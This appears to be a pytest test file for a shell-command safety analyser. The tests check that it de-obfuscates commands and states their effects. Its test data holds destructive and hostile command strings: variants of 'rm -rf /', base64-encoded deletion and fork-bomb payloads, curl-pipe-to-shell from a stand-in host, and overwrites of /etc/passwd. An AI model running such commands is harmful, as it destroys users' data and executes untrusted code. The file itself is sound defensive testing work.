"""The resolved form names every word that is not what it looks like, in the person's own writing, and no mark of ours."""

from __future__ import annotations

import json

import pytest

from ingle.shell.verdict import Verdict, analyse, explain, verdict_to_dict

from .corpus import labelled


def resolved(command: str, shell: str = "bash") -> str:
    return analyse(command, shell).findings[0].resolved


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("x=rm; $x -rf ../../..", "`$x` is `rm`, `../../..` is `/home`"),
        ("x=rm; $x -rf ../../../..", "`$x` is `rm`, `../../../..` is `/`"),
        ("d=../..; rm -rf $d/..", "`$d/..` is `/home`"),
        ("$(printf 'rm -rf /')", "`$(printf 'rm -rf /')` is `rm -rf /`"),
        ("r''m -rf /e't'c", "`r''m` is `rm`, `/e't'c` is `/etc`"),
        ("cd /; rm -rf *", "`*` is `/*`"),
        ("f=/etc/passwd; echo x > $f", "`$f` is `/etc/passwd`"),
        ("echo cm0gLXJmIH4= | base64 -d | sh", "what runs is `rm -rf ~`; `~` is `/home/user`"),
        ('rm -rf "$D"/*', '`"$D"/*` is `…/*`, where `…` is not known'),
        ('eval "$x"', '`"$x"` is not known before it runs'),
        ('ssh h "$x"', '`"$x"` is not known before it runs'),
        ('ssh h "rm -rf $x"', "what runs is `rm -rf …`, where `…` is not known"),
        ('f() { rm -rf "$1"; }; f /', '`"$1"` is `/`'),
    ],
)
def test_words_are_told_as_the_shell_would_read_them(command: str, told: str) -> None:
    assert resolved(command) == told


@pytest.mark.parametrize(
    ("command", "shell", "told"),
    [
        ("rm -rf (echo /)", "fish", "`(echo /)` is `/`"),
        ("echo é; set x /; rm -rf $x/*", "fish", "`$x/*` is `/*`"),
        ("x=/; rm -rf ${x}*(N)", "zsh", "`${x}*(N)` is `/*`"),
        ("$x='rm'; & $x -Recurse C:\\", "powershell", "`$x` is `rm`"),
        ("$p='C:\\'; Remove-Item -Recurse $p", "powershell", "`$p` is `C:\\`"),
    ],
)
def test_in_other_shells_the_word_is_the_one_that_stands_there(command: str, shell: str, told: str) -> None:
    assert resolved(command, shell) == told


@pytest.mark.parametrize(
    "command",
    ["rm -rf /", "rm -rf '/'", "curl -s https://x.example | sh", "sh <(wget -qO- https://x.example)"],
)
def test_what_is_already_plain_is_not_told_again(command: str) -> None:
    assert resolved(command) == ""


def test_a_substituted_file_is_shown_as_it_was_written() -> None:
    text = said(analyse("x=$(cat a); bash <(curl -s https://x.example/i.sh) $x; cat <(ls) > /etc/passwd"))
    assert "/dev/fd/6" not in text
    assert "`. <(" not in text


def said(verdict: Verdict) -> str:
    """Everything that a person or a program is told."""
    return json.dumps(verdict_to_dict(verdict), ensure_ascii=False) + explain(verdict)


def _marks(text: str) -> list[str]:
    return [char for char in text if 0xE000 <= ord(char) <= 0xF8FF or ord(char) >= 0xF0000]


@pytest.mark.slow
def test_no_private_character_is_ever_shown() -> None:
    commands = [one for at, one in enumerate(labelled()) if at % 12 == 0]
    assert [one.command for one in commands if _marks(said(analyse(one.command, one.shell)))] == []


@pytest.mark.slow
def test_no_private_character_is_shown_for_any_command_and_with_any_word_unknown() -> None:
    told = []
    for one in labelled():
        hidden = one.command.replace("/", "$q/").replace(" ", " $q ", 1)
        for command in (one.command, hidden, f'ssh h "{hidden}"', f"eval {one.command}"):
            text = said(analyse(command, one.shell))
            if _marks(text) or ("/dev/fd/6" in text and "/dev/fd/6" not in command):
                told.append(command)
    assert told == []


def test_private_characters_that_were_typed_are_shown_escaped() -> None:
    text = said(analyse("rm \U000f0000 \U000f0001 \ue000"))
    assert _marks(text) == []
    assert "f0000" in text


def test_what_would_write_to_the_terminal_or_turn_the_line_round_is_shown_escaped() -> None:
    text = explain(analyse("rm -rf $'/etc\\e[2J\\u202e'; rm файл"))
    assert "/etc\\x1b[2J\\u202e" in text
    assert "файл" in text


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("rm '~'", "deletes `./~`"),
        ("ln -sf ~/dotfiles/.vimrc ~/.vimrc", "replaces `~/.vimrc` with a link"),
        ("rsync -a x/ /tmp", "copies files into `/tmp`"),
        ("bun add x", "`bun add` changes something"),
        ("rm ~/x.txt", "deletes `~/x.txt`"),
        ("rm -rf ~/Documents", "deletes `~/Documents` (a top-level folder of your home), without undo"),
        ("echo x > ~/notes.txt", "overwrites `~/notes.txt`"),
        ("sudo tee /etc/hosts < x", "overwrites `/etc/hosts` (a system file)"),
        ("kill $(lsof -ti :3000)", "ends processes that are found when it runs"),
        ("kill -STOP 31337", "pauses the process 31337"),
        ("pkill -HUP nginx", "sends a signal to every `nginx`"),
        ("kill -s USR1 42", "sends a signal to the process 42"),
        ("pkill -9 -f server", "ends every `server`"),
        ("git push origin main", "sends commits to the remote repository"),
        ("npm ci", "installs the packages of the lock file anew"),
        ("podman build -t app .", "builds an image"),
    ],
)
def test_what_is_said_of_a_file_is_what_happens_to_it(command: str, told: str) -> None:
    assert analyse(command).findings[0].consequence == told


def test_a_folder_of_a_drive_is_none_of_the_home_and_a_block_is_no_unknown_word() -> None:
    told = analyse("Remove-Item C:\\data -Recurse", "powershell").findings[0].consequence
    assert told == "deletes `C:\\data` (a top-level folder of the drive), without undo"
    found = analyse(
        "Invoke-Command -ComputerName web1 -ScriptBlock { Remove-Item a.txt }", "powershell"
    ).findings
    assert [finding.resolved for finding in found] == ["", ""]


def test_a_folder_that_nobody_named_is_not_told() -> None:
    told = [found for found in analyse("docker exec web rm dist/a").findings if found.effect == "delete"]
    assert [(found.consequence, found.resolved) for found in told] == [("deletes `dist/a`", "")]


def test_code_that_was_hidden_is_shown_whole_and_a_rewritten_word_is_not_torn() -> None:
    assert resolved("echo OigpeyA6fDomIH07Og== | base64 -d | bash") == "what runs is `:(){ :|:& };:`"
    assert resolved("{rm,-rf,/}") == ""
    assert resolved("rm -rf ./src") == ""
